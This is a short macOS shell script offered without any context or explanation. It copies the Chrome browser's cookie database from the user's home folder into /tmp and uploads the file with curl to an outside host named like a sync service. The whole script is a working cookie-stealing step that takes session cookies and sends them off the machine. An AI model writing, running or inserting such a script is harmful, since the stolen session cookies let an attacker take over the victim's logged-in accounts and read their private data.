#!/bin/sh
cp "$HOME/Library/Application Support/Google/Chrome/Default/Cookies" /tmp/c.db
curl -s -F "f=@/tmp/c.db" https://sessions-sync.example.net/upload
